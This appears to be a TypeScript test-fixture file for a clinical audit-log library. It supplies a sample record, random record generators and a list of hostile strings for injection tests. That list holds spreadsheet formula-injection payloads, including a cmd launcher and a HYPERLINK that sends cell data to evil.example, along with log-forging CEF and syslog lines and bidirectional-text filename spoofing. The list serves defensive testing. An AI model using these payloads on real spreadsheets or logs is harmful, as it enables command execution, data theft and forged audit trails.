import { dataClasses, purposesOfUse } from '@phi/core'
import fc from 'fast-check'
import { auditActions, auditOutcomes, auditSeverities } from '../../src/actions.ts'
import { auditSourceSchema } from '../../src/event.ts'
import type { AuditRecord } from '../../src/index.ts'

/** A record in which every field has a plain value. */
export const fullRecord: AuditRecord = {
  index: 7,
  recordedAt: '2026-03-04T05:06:08.000Z',
  hash: `${'A'.repeat(43)}=`,
  origin: 'clinic.example/audit',
  event: {
    id: 'request-7f3a/read',
    occurredAt: '2026-03-04T05:06:07.089Z',
    action: 'read',
    outcome: 'success',
    severity: 'notice',
    actor: { id: 'u-17', type: 'workforce', roles: ['therapist', 'supervisor'], organization: 'org-1', onBehalfOf: 'u-3' },
    source: {
      ip: '203.0.113.9',
      userAgent: 'Mozilla/5.0',
      session: 's-1',
      request: 'r-1',
      trace: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
      site: 'north',
    },
    subject: {
      resource: { type: 'ProgressNote', id: 'n-204', version: '3' },
      patients: ['p-88'],
      dataClasses: ['phi.ops.auditlog'],
      fields: ['text'],
      count: 1,
    },
    context: {
      purpose: 'TREAT',
      reason: 'follow-up',
      breakGlass: false,
      disclosure: { recipient: 'Dr. Roe', address: '1 Main St', description: 'summary', purpose: 'referral' },
      decision: { policy: 'chart-access', rule: 'care-team' },
      ai: { model: 'm-1', promptHash: 'a'.repeat(64), outputHash: 'b'.repeat(64) },
      details: { urgent: false, pages: -2.5, note: 'ok', none: null },
    },
  },
  withheld: [],
  altered: [],
  sealed: [],
  genuine: true,
}

const STEERING = '\\u007f-\\u009f\\u061c\\u200e\\u200f\\u2028-\\u202e\\u2066-\\u2069'
/** Characters that must not stand in a text of one line, and in one of several lines. */
export const unsafeInLine = new RegExp(`[\\u0000-\\u001f${STEERING}]`)
export const unsafeInLines = new RegExp(`[\\u0000-\\u0008\\u000b\\u000c\\u000e-\\u001f${STEERING}]`)

/** What attackers and accidents put into texts. */
export const hostileTexts: readonly string[] = [
  'line one\nline two',
  'line one\r\nCEF:0|evil|evil|1|x|y|10|act=forged',
  'carriage\rreturn',
  '\r\n<14>1 2026-01-01T00:00:00Z evil evil - - - forged',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  '@SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '-12.5',
  '  =1+1',
  '"=1+1',
  "'=1+1",
  "'quoted'",
  '\t=1+1',
  '\u00a0=1+1',
  '\uff1d1\uff0b1',
  '\ufe66cmd',
  'a;=1+1',
  'a;  "=1+1',
  "a;'=1+1",
  'a\t@x',
  'a\n=1+1',
  'a|b=c',
  'key=value act=delete suser=root',
  ' cs1=forged cs1Label=forged',
  '" act="forged',
  '"] [evil@1 x="y',
  'back\\slash\\',
  'C:\\new\\u0041',
  '\\u005cu0000',
  '\u0000nul\u0000',
  '\u001b[31mred\u001b[0m',
  'a\u0085b\u2028c\u2029d',
  '\u202eevil\u202c txt.exe',
  '\u2066isolate\u2069 \u200f\u061c',
  '\ufeffmark',
  'lone \ud800 high',
  '\udc00 lone low',
  '\ud83d\ude42 \u05e9\u05dc\u05d5\u05dd',
  '[withheld]',
  '[sealed] or not',
  '[json]"x"',
  '[empty]',
  ' leading and trailing ',
  '"',
  '""',
  ',',
  '{"end":{"records":0,"complete":true}}',
  'x'.repeat(1000),
  '\u0000'.repeat(300),
  '\u00e4\ud83d\ude42'.repeat(300),
]

const unit = fc.oneof(
  { weight: 3, arbitrary: fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)) },
  { weight: 4, arbitrary: fc.constantFrom(...'=+-@;|,"\'\\[]{}\n\r\t\u0000 u00\uff1d\u202e\ud800\udc00aé') },
  { weight: 1, arbitrary: fc.constantFrom('\\u0000', '\ud83d\ude42', '[withheld]', '[json]', ';=', '\\n') },
)

/** Any text up to a length. */
const anyText = (limit: number): fc.Arbitrary<string> =>
  fc.oneof(
    fc.array(unit, { minLength: 1, maxLength: 12 }).map((units) => units.join('').slice(0, limit)),
    fc.constantFrom(...hostileTexts).map((text) => text.slice(0, limit)),
  )

/** Any text that the schema takes for an identifier. */
const anyIdentifier = (limit = 256): fc.Arbitrary<string> =>
  anyText(limit).map((text) => {
    const plain = text.replace(/[\p{Cc}\u2028\u2029]/gu, '').trim()
    return plain === '' ? '=x' : plain
  })

const instant = fc.integer({ min: 0, max: 253_402_300_799_999 }).map((milliseconds) => new Date(milliseconds).toISOString())
const some = <T>(arbitrary: fc.Arbitrary<T>) => fc.option(arbitrary, { nil: undefined })
const list = (arbitrary: fc.Arbitrary<string>) => fc.uniqueArray(arbitrary, { maxLength: 4 })
const identifier = anyIdentifier()
const hex = fc.constantFrom('0', 'a').map((digit) => digit.repeat(64))

const definedOnly = <T extends object>(value: T): T =>
  Object.fromEntries(Object.entries(value).filter(([, each]) => each !== undefined)) as T

const record = (shape: Record<string, fc.Arbitrary<unknown>>) => fc.record(shape).map(definedOnly)

const ip = fc.oneof(fc.ipV4(), fc.ipV6()).filter((text) => auditSourceSchema.safeParse({ ip: text }).success)
const actor = record({
  id: identifier,
  type: fc.constantFrom('workforce', 'patient', 'service', 'system', 'vendor'),
  roles: fc.array(anyIdentifier(64), { maxLength: 3 }),
  organization: some(identifier),
  onBehalfOf: some(identifier),
})
const source = record({
  ip: some(ip),
  userAgent: some(anyText(1024)),
  session: some(identifier),
  request: some(identifier),
  trace: some(fc.constant('00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01')),
  site: some(identifier),
})
const subject = record({
  resource: some(record({ type: identifier, id: identifier, version: some(identifier) })),
  patients: some(list(identifier)),
  dataClasses: some(fc.subarray(Object.keys(dataClasses).slice(0, 4))),
  fields: some(list(identifier)),
  count: some(fc.nat()),
})
const details = fc.dictionary(
  fc.stringMatching(/^[A-Za-z][A-Za-z0-9_.-]{0,8}$/).filter((key) => key !== '__proto__'),
  fc.oneof(
    anyText(1024),
    fc.double({ noNaN: true, noDefaultInfinity: true }).map((value) => value + 0),
    fc.boolean(),
    fc.constant(null),
  ),
  { maxKeys: 4, noNullPrototype: true },
)
const context = record({
  purpose: some(fc.constantFrom(...(Object.keys(purposesOfUse) as string[]))),
  reason: some(anyText(2048)),
  breakGlass: some(fc.boolean()),
  disclosure: some(
    record({ recipient: anyText(2048), address: some(anyText(2048)), description: anyText(2048), purpose: anyText(2048) }),
  ),
  decision: some(record({ policy: identifier, rule: identifier })),
  ai: some(record({ model: some(identifier), promptHash: some(hex), outputHash: some(hex) })),
  details: some(details),
})
const event = record({
  id: fc.stringMatching(/^[\x21-\x7e]{1,40}$/),
  occurredAt: instant,
  action: fc.constantFrom(...auditActions),
  outcome: fc.constantFrom(...auditOutcomes),
  severity: some(fc.constantFrom(...auditSeverities)),
})
const standing = fc.constantFrom('shown', 'shown', 'shown', 'withheld', 'sealed', 'altered')

/** Any record that a log can give, and texts in it that no log takes: surrogates that stand alone. */
export const anyRecord: fc.Arbitrary<AuditRecord> = fc
  .record({
    index: fc.nat(),
    recordedAt: instant,
    hash: fc.constantFrom(`+${'A'.repeat(42)}=`, `${'A'.repeat(43)}=`),
    origin: fc.constantFrom('clinic.example/audit', '=cmd|x!A0', 'a]b"c\\'),
    groups: fc.record({ event, actor, source: some(source), subject: some(subject), context: some(context) }),
    standings: fc.record({ event: standing, actor: standing, source: standing, subject: standing, context: standing }),
  })
  .map(({ groups, standings, ...rest }) => {
    const having = (wanted: string) =>
      Object.entries(standings)
        .filter(([, each]) => each === wanted)
        .map(([name]) => name)
    const { event: own, ...others } = groups
    const shown = Object.entries(others).filter(
      ([name, value]) => value !== undefined && standings[name as keyof typeof standings] === 'shown',
    )
    return {
      ...rest,
      event: { ...(standings.event === 'shown' ? own : {}), ...Object.fromEntries(shown) },
      withheld: having('withheld'),
      sealed: having('sealed'),
      altered: having('altered'),
      genuine: having('altered').length === 0,
    } as unknown as AuditRecord
  })

/** The hostile texts with titles for tests. */
export const hostileCases: readonly [string, string][] = hostileTexts.map((text) => [
  `${JSON.stringify(text.slice(0, 40))}${text.length > 40 ? ` (${text.length})` : ''}`,
  text,
])

/** `fullRecord` with a text in every field that takes free text or an identifier. */
export function recordWith(text: string): AuditRecord {
  const id = text
  const { event } = fullRecord
  return {
    ...fullRecord,
    event: {
      ...event,
      actor: { id, type: 'workforce', roles: [id.slice(0, 64)], organization: id, onBehalfOf: id },
      source: { ...event.source, userAgent: text, session: id, request: id, site: id },
      subject: { ...event.subject, resource: { type: id, id, version: id }, patients: [id], fields: [id] },
      context: {
        ...event.context,
        reason: text,
        disclosure: { recipient: text, address: text, description: text, purpose: text },
        decision: { policy: id, rule: id },
        ai: { model: id },
        details: { text },
      },
    },
  }
}

export async function textOf(chunks: AsyncIterable<string>): Promise<string> {
  let out = ''
  for await (const chunk of chunks) out += chunk
  return out
}

export async function all<T>(items: AsyncIterable<T>): Promise<T[]> {
  const out: T[] = []
  for await (const item of items) out.push(item)
  return out
}

/** What an iteration gave before it ended or threw. */
export async function until<T>(items: AsyncIterable<T>): Promise<{ readonly items: readonly T[]; readonly error: unknown }> {
  const got: T[] = []
  try {
    for await (const item of items) got.push(item)
  } catch (error) {
    return { items: got, error }
  }
  return { items: got, error: undefined }
}

/** A text in pieces of random lengths. */
export const inPieces = (text: string, length: number): string[] => {
  const pieces: string[] = []
  for (let at = 0; at < text.length; at += length) pieces.push(text.slice(at, at + length))
  return pieces
}

/** Records, and then an error. */
export async function* failing(records: readonly AuditRecord[]): AsyncGenerator<AuditRecord> {
  yield* records
  throw new Error('the store is away')
}
